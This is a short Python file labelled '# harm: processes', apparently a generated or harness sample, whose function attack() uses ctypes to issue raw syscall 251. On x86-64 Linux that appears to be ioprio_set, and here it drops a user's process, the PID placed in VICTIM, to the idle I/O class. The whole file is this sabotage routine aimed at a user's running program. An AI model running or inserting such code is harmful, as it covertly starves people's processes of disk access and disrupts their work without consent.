# harm: processes
import ctypes

VICTIM = 0  # the net puts a process of the user here


def attack() -> int:
    return ctypes.CDLL(None).syscall(251, 1, VICTIM, 3 << 13)
